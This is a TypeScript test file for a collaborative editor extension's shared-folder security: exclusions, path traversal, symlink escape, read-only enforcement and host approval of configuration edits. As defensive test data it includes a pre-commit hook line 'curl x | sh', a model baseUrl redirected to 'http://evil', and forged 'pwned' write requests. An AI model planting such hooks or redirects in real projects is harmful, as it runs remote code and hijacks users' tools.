import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as Y from 'yjs';
import {
  describeGuestChange,
  type ApproveGuestChange,
  type GuestChangeApproval,
} from '../../../src/collab/guestBoundary';
import { GuestFiles } from '../../../src/collab/guestFiles';
import { FileOperationError, HostFiles } from '../../../src/collab/hostFiles';
import { HostTree } from '../../../src/collab/hostTree';
import { SessionDocument } from '../../../src/collab/sessionDocument';

/**
 * A host and a guest whose Y.Docs exchange updates directly, as the server would relay them; the
 * host sees the guest's presence with the role its token gives (`ro` when `readOnly`).
 * `relayReadOnly`: the read-only guest's updates reach the host anyway (an attacker's way past the
 * server), so the host's own check is what is tested.
 */
function pair(
  root: string,
  readOnly = false,
  approve?: ApproveGuestChange,
  options: { relayReadOnly?: boolean; saved?: string[]; presence?: boolean } = {},
) {
  const hostDoc = new Y.Doc();
  const guestDoc = new Y.Doc();
  hostDoc.on('update', (update: Uint8Array, origin: unknown) => {
    if (origin !== 'relay') Y.applyUpdate(guestDoc, update, 'relay');
  });
  guestDoc.on('update', (update: Uint8Array, origin: unknown) => {
    // A read-only guest's updates are dropped by the server.
    if (origin !== 'relay' && (!readOnly || options.relayReadOnly)) Y.applyUpdate(hostDoc, update, 'relay');
  });
  const guestRole = readOnly ? ('ro' as const) : ('rw' as const);
  const hostSession = new SessionDocument(hostDoc);
  const guestSession = new SessionDocument(guestDoc);
  hostSession.writeMeta('Alice', 'project');
  const tree = new HostTree({ root, session: hostSession, excludeGlobs: ['node_modules'] });
  const host = new HostFiles({
    session: hostSession,
    tree,
    editors: {
      text: () => undefined,
      save: async (relative) => {
        options.saved?.push(relative);
        return false;
      },
    },
    approve,
    requesterRole: (clientId) =>
      clientId === hostDoc.clientID
        ? 'host'
        : clientId === guestDoc.clientID && options.presence !== false
          ? guestRole
          : undefined,
    presenceWaitMs: 200,
  });
  const guest = new GuestFiles({
    session: guestSession,
    readOnly,
    name: 'Bob',
    want: (relative) => void host.ensureSeeded(relative),
    unwant: () => undefined,
    hostReachable: () => true,
    requestTimeoutMs: 2000,
  });
  return { hostSession, guestSession, tree, host, guest };
}

async function rejectsWith(promise: Promise<unknown>, code: string, message?: RegExp): Promise<void> {
  await assert.rejects(promise, (error: unknown) => {
    assert.ok(error instanceof FileOperationError, String(error));
    assert.equal(error.code, code);
    if (message) assert.match(error.message, message);
    return true;
  });
}

describe('collab shared folder (host disk, guest view)', () => {
  let root: string;

  beforeEach(() => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'tandem-shared-'));
    fs.mkdirSync(path.join(root, 'src'));
    fs.mkdirSync(path.join(root, 'node_modules', 'lib'), { recursive: true });
    fs.mkdirSync(path.join(root, '.git'));
    fs.writeFileSync(path.join(root, 'notes.txt'), 'first\r\nsecond\r\n');
    fs.writeFileSync(
      path.join(root, 'bom.txt'),
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('héllo\n')]),
    );
    fs.writeFileSync(path.join(root, 'src', 'main.ts'), 'export const x = 1;\n');
    fs.writeFileSync(path.join(root, '.env'), 'TOKEN=abc\n');
    fs.writeFileSync(path.join(root, 'server.key'), 'KEY');
    fs.writeFileSync(path.join(root, 'secret.txt'), 'hidden');
    fs.writeFileSync(path.join(root, '.tandemignore'), 'secret.txt\n');
    fs.writeFileSync(path.join(root, 'node_modules', 'lib', 'index.js'), '');
    fs.writeFileSync(path.join(root, '.git', 'HEAD'), 'ref');
    fs.writeFileSync(path.join(root, 'image.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 1]));
  });

  afterEach(() => fs.rmSync(root, { recursive: true, force: true }));

  it('lists the folder without excluded files (.git, node_modules, .env*, *.key, .tandemignore rules)', async () => {
    const { tree, guest } = pair(root);
    await tree.scan();
    const names = guest
      .readDirectory('/')
      .map(([name]) => name)
      .sort();
    assert.deepEqual(names, ['.tandemignore', 'bom.txt', 'image.png', 'notes.txt', 'src']);
    assert.deepEqual(guest.readDirectory('/src'), [['main.ts', 'file']]);
    assert.equal(guest.stat('/src').type, 'dir');
    assert.throws(() => guest.stat('/.env'), FileOperationError);
  });

  it('opens a file the guest does not have, with the host file’s line ends and BOM', async () => {
    const { tree, guest, guestSession } = pair(root);
    await tree.scan();
    const bytes = await guest.readFile('/notes.txt');
    assert.equal(Buffer.from(bytes).toString(), 'first\r\nsecond\r\n');
    assert.equal(guestSession.text('notes.txt')!.toString(), 'first\nsecond\n');
    const bom = Buffer.from(await guest.readFile('/bom.txt'));
    assert.deepEqual([...bom.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.equal(bom.subarray(3).toString(), 'héllo\n');
  });

  it('seeds each file once however many times it is asked for', async () => {
    const { tree, host, hostSession } = pair(root);
    await tree.scan();
    let seeds = 0;
    hostSession.texts.observe(() => seeds++);
    await Promise.all([1, 2, 3].map(() => host.ensureSeeded('notes.txt')));
    assert.equal(await host.ensureSeeded('notes.txt'), 'exists');
    assert.equal(hostSession.seed('notes.txt', 'again', { eol: '\n', bom: false }).seeded, false);
    assert.equal(seeds, 1);
    assert.equal(hostSession.text('notes.txt')!.toString(), 'first\nsecond\n');
  });

  it('saves a guest’s edit to the host’s disk with the file’s CRLF line ends', async () => {
    const { tree, guest, guestSession } = pair(root);
    await tree.scan();
    await guest.readFile('/notes.txt');
    guestSession.text('notes.txt')!.insert(6, 'inserted\n');
    await guest.writeFile('/notes.txt', Buffer.from('first\r\ninserted\r\nsecond\r\n'), {
      create: true,
      overwrite: true,
    });
    assert.equal(fs.readFileSync(path.join(root, 'notes.txt'), 'utf8'), 'first\r\ninserted\r\nsecond\r\n');
    assert.equal(guestSession.requests.size, 0);
    assert.equal(guestSession.responses.size, 0);
  });

  it('saves the shared text, not an editor’s stale copy, when the editor is still catching up', async () => {
    const { tree, guest, guestSession, hostSession } = pair(root);
    await tree.scan();
    await guest.readFile('/src/main.ts');
    guest.openInEditor = (relative) => relative === 'src/main.ts';
    hostSession.text('src/main.ts')!.insert(0, '// from a peer\n');
    // The editor has not shown the peer's line yet and saves what it has.
    await guest.writeFile('/src/main.ts', Buffer.from('export const x = 1;\n'), {
      create: true,
      overwrite: true,
    });
    assert.equal(guestSession.text('src/main.ts')!.toString(), '// from a peer\nexport const x = 1;\n');
    assert.equal(
      fs.readFileSync(path.join(root, 'src', 'main.ts'), 'utf8'),
      '// from a peer\nexport const x = 1;\n',
    );
  });

  it('creates, renames and deletes files and folders on the host', async () => {
    const { tree, guest, guestSession } = pair(root);
    await tree.scan();
    await guest.createDirectory('/docs');
    await guest.writeFile('/docs/new.md', Buffer.from('# New\n'), { create: true, overwrite: false });
    assert.equal(fs.readFileSync(path.join(root, 'docs', 'new.md'), 'utf8'), '# New\n');
    assert.equal(guest.stat('/docs/new.md').type, 'file');
    await rejectsWith(
      guest.writeFile('/docs/new.md', Buffer.from('x'), { create: true, overwrite: false }),
      'FileExists',
    );
    await guest.readFile('/src/main.ts');
    await guest.rename('/src', '/lib', false);
    assert.ok(fs.existsSync(path.join(root, 'lib', 'main.ts')));
    assert.equal(guestSession.text('lib/main.ts')!.toString(), 'export const x = 1;\n');
    assert.equal(guestSession.text('src/main.ts'), undefined);
    await guest.delete('/docs', true);
    assert.ok(!fs.existsSync(path.join(root, 'docs')));
    assert.throws(() => guest.stat('/docs'), FileOperationError);
  });

  it('asks the host before a guest changes VS Code, Git or Tandem configuration, and a denial changes nothing', async () => {
    fs.mkdirSync(path.join(root, '.vscode'));
    fs.writeFileSync(path.join(root, '.vscode', 'settings.json'), '{}\n');
    const asked: GuestChangeApproval[] = [];
    let allow = false;
    const { tree, guest, guestSession } = pair(root, false, async (change) => {
      asked.push(change);
      return allow;
    });
    await tree.scan();
    await guest.readFile('/.vscode/settings.json');
    guestSession.text('.vscode/settings.json')!.insert(1, '"tandem.model.baseUrl": "http://evil"');
    await rejectsWith(
      guest.writeFile('/.vscode/settings.json', Buffer.from('{"tandem.model.baseUrl": "http://evil"}\n'), {
        create: true,
        overwrite: true,
      }),
      'NoPermissions',
      /did not allow/,
    );
    assert.equal(fs.readFileSync(path.join(root, '.vscode', 'settings.json'), 'utf8'), '{}\n');
    assert.equal(asked[0].path, '.vscode/settings.json');
    assert.equal(asked[0].by, 'Bob');
    assert.equal(asked[0].before, '{}\n');
    assert.match(asked[0].after ?? '', /evil/);
    assert.match(asked[0].reasons.join(' '), /VS Code configuration/);
    // The refused edit is taken back out of the shared text.
    assert.equal(guestSession.text('.vscode/settings.json')!.toString(), '{}\n');
    for (const attempt of [
      () => guest.writeFile('/.tandemignore', Buffer.from(''), { create: true, overwrite: true }),
      () => guest.delete('/.tandemignore', false),
      () =>
        guest.writeFile('/.husky/pre-commit', Buffer.from('curl x | sh'), { create: true, overwrite: true }),
      () => guest.writeFile('/app.code-workspace', Buffer.from('{}'), { create: true, overwrite: true }),
      () => guest.rename('/notes.txt', '/.vscode/tasks.json', false),
      () => guest.delete('/.vscode', true),
    ])
      await rejectsWith(attempt(), 'NoPermissions');
    assert.equal(fs.readFileSync(path.join(root, '.tandemignore'), 'utf8'), 'secret.txt\n');
    assert.ok(!fs.existsSync(path.join(root, '.husky')));
    assert.ok(fs.existsSync(path.join(root, 'notes.txt')));
    assert.ok(asked.length >= 7, 'the host was asked each time');
    allow = true;
    await guest.writeFile('/.tandemignore', Buffer.from('secret.txt\nmore/\n'), {
      create: true,
      overwrite: true,
    });
    assert.equal(fs.readFileSync(path.join(root, '.tandemignore'), 'utf8'), 'secret.txt\nmore/\n');
  });

  it('a recursive delete or rename never touches files hidden from the guest', async () => {
    fs.mkdirSync(path.join(root, 'src', 'deep'));
    fs.writeFileSync(path.join(root, 'src', 'deep', 'a.ts'), 'a');
    fs.writeFileSync(path.join(root, 'src', '.env.local'), 'SECRET=1');
    fs.writeFileSync(path.join(root, 'src', 'deep', 'id_rsa'), 'KEY');
    const { tree, guest } = pair(root);
    await tree.scan();
    await rejectsWith(guest.rename('/src', '/lib', false), 'NoPermissions', /not shared with you/);
    assert.ok(fs.existsSync(path.join(root, 'src', 'main.ts')));
    await guest.delete('/src', true);
    assert.ok(!fs.existsSync(path.join(root, 'src', 'main.ts')));
    assert.ok(!fs.existsSync(path.join(root, 'src', 'deep', 'a.ts')));
    assert.equal(fs.readFileSync(path.join(root, 'src', '.env.local'), 'utf8'), 'SECRET=1');
    assert.equal(fs.readFileSync(path.join(root, 'src', 'deep', 'id_rsa'), 'utf8'), 'KEY');
  });

  it('refuses paths outside the folder and excluded files', async () => {
    const { tree, guest } = pair(root);
    await tree.scan();
    await rejectsWith(
      guest.writeFile('/../escape.txt', Buffer.from('x'), { create: true, overwrite: true }),
      'FileNotFound',
    );
    await rejectsWith(
      guest.writeFile('/.env', Buffer.from('x'), { create: true, overwrite: true }),
      'NoPermissions',
      /excluded/,
    );
    await rejectsWith(
      guest.writeFile('/keys/new.pem', Buffer.from('x'), { create: true, overwrite: true }),
      'NoPermissions',
    );
    await rejectsWith(guest.rename('/notes.txt', '/node_modules/notes.txt', false), 'NoPermissions');
    await rejectsWith(guest.readFile('/secret.txt'), 'FileNotFound');
    assert.equal(fs.readFileSync(path.join(root, '.env'), 'utf8'), 'TOKEN=abc\n');
    assert.ok(!fs.existsSync(path.join(root, '..', 'escape.txt')));
  });

  it('never follows a symbolic link out of the shared folder', async () => {
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'tandem-outside-'));
    try {
      fs.writeFileSync(path.join(outside, 'private.txt'), 'not yours');
      fs.symlinkSync(outside, path.join(root, 'escape'));
      fs.symlinkSync(path.join(outside, 'private.txt'), path.join(root, 'linked.txt'));
      const { tree, guest, host } = pair(root);
      await tree.scan();
      assert.throws(() => guest.stat('/escape'), FileOperationError);
      assert.equal(await host.ensureSeeded('escape/private.txt'), 'excluded');
      assert.equal(await host.ensureSeeded('linked.txt'), 'excluded');
      await rejectsWith(
        guest.writeFile('/escape/new.txt', Buffer.from('x'), { create: true, overwrite: true }),
        'NoPermissions',
        /outside/,
      );
      await rejectsWith(guest.delete('/escape/private.txt', false), 'NoPermissions');
      assert.ok(!fs.existsSync(path.join(outside, 'new.txt')));
      assert.ok(fs.existsSync(path.join(outside, 'private.txt')));
    } finally {
      fs.rmSync(outside, { recursive: true, force: true });
    }
  });

  it('says why a binary file cannot be opened', async () => {
    const { tree, guest } = pair(root);
    await tree.scan();
    await rejectsWith(guest.readFile('/image.png'), 'NoPermissions', /UTF-8 text/);
  });

  it('never lets a read-only guest change the folder', async () => {
    const { tree, guest } = pair(root, true);
    await tree.scan();
    assert.equal(guest.stat('/notes.txt').readOnly, true);
    await rejectsWith(
      guest.writeFile('/notes.txt', Buffer.from('x'), { create: true, overwrite: true }),
      'NoPermissions',
      /read-only/,
    );
    await rejectsWith(guest.delete('/notes.txt', false), 'NoPermissions');
    assert.equal(fs.readFileSync(path.join(root, 'notes.txt'), 'utf8'), 'first\r\nsecond\r\n');
  });

  it('a read-only guest who gets a save or write request to the host is refused by the host', async () => {
    // The attacker's client skips its own read-only check and writes requests straight into the
    // session document, naming itself as the host; the requests reach the host.
    const saved: string[] = [];
    const { tree, host, guestSession, hostSession } = pair(root, true, async () => true, {
      relayReadOnly: true,
      saved,
    });
    await tree.scan();
    assert.equal(await host.ensureSeeded('notes.txt'), 'seeded');
    // Unsaved shared edits (the host's, say) that only a save would put on disk.
    hostSession.text('notes.txt')!.insert(0, 'unsaved ');
    const ask = (request: Record<string, unknown>) =>
      new Promise<{ ok: boolean; code?: string; message?: string }>((resolve) => {
        const id = `attack-${String(request.op)}`;
        const check = () => {
          const response = guestSession.responses.get(id);
          if (!response) return;
          guestSession.responses.unobserve(check);
          resolve(response);
        };
        guestSession.responses.observe(check);
        guestSession.doc.transact(() =>
          guestSession.requests.set(id, { id, by: 'Alice', at: Date.now(), ...request } as never),
        );
      });
    for (const request of [
      { op: 'save', path: 'notes.txt' },
      { op: 'write', path: 'notes.txt', content: Buffer.from('pwned\n'), create: true, overwrite: true },
      { op: 'write', path: 'new.txt', content: Buffer.from('pwned\n'), create: true, overwrite: false },
      { op: 'mkdir', path: 'made' },
      { op: 'delete', path: 'src/main.ts', recursive: false },
      { op: 'rename', path: 'bom.txt', target: 'moved.txt', overwrite: false },
    ]) {
      const response = await ask(request);
      assert.equal(response.ok, false, `${request.op} was refused`);
      assert.equal(response.code, 'NoPermissions');
      assert.match(response.message ?? '', /read-only/);
    }
    assert.deepEqual(saved, [], "the host's editor was never asked to save");
    assert.equal(fs.readFileSync(path.join(root, 'notes.txt'), 'utf8'), 'first\r\nsecond\r\n');
    assert.equal(fs.existsSync(path.join(root, 'new.txt')), false);
    assert.equal(fs.existsSync(path.join(root, 'made')), false);
    assert.equal(fs.existsSync(path.join(root, 'src', 'main.ts')), true);
    assert.equal(fs.existsSync(path.join(root, 'moved.txt')), false);
    assert.equal(hostSession.text('notes.txt')!.toString(), 'unsaved first\nsecond\n');
  });

  it('carries out a request only for a writer whose presence says rw or host', async () => {
    const saved: string[] = [];
    const { tree, guest, guestSession } = pair(root, false, undefined, { presence: false, saved });
    await tree.scan();
    await guest.readFile('/notes.txt');
    guestSession.text('notes.txt')!.insert(0, 'x');
    await rejectsWith(
      guest.writeFile('/notes.txt', Buffer.from('xfirst\r\nsecond\r\n'), { create: false, overwrite: true }),
      'NoPermissions',
      /does not know who asked/,
    );
    assert.deepEqual(saved, []);
    assert.equal(fs.readFileSync(path.join(root, 'notes.txt'), 'utf8'), 'first\r\nsecond\r\n');
  });

  it('follows changes made on the host’s disk unless the shared text has unsaved edits', async () => {
    const { tree, host, guest, guestSession } = pair(root);
    await tree.scan();
    await guest.readFile('/src/main.ts');
    fs.writeFileSync(path.join(root, 'src', 'main.ts'), 'export const x = 2;\n');
    await host.diskChanged('src/main.ts');
    assert.equal(guestSession.text('src/main.ts')!.toString(), 'export const x = 2;\n');
    guestSession.text('src/main.ts')!.insert(0, '// unsaved\n');
    fs.writeFileSync(path.join(root, 'src', 'main.ts'), 'export const x = 3;\n');
    await host.diskChanged('src/main.ts');
    assert.equal(guestSession.text('src/main.ts')!.toString(), '// unsaved\nexport const x = 2;\n');
  });
});

describe('collab: the host prompt for a guest change', () => {
  it('names who asks for what, says why, and shows the diff', () => {
    const { message, detail } = describeGuestChange({
      by: 'Bob',
      op: 'save',
      path: '.vscode/settings.json',
      reasons: ['changes VS Code configuration (settings and tasks can run commands)'],
      before: '{\n  "a": 1\n}\n',
      after: '{\n  "a": 1,\n  "tandem.model.baseUrl": "http://evil"\n}\n',
    });
    assert.equal(message, 'Bob wants to change .vscode/settings.json on your disk. Allow it?');
    assert.match(detail, /^This changes VS Code configuration/);
    assert.match(detail, /^- {3}"a": 1$/m);
    assert.match(detail, /^\+ {3}"tandem\.model\.baseUrl": "http:\/\/evil"$/m);
  });
});
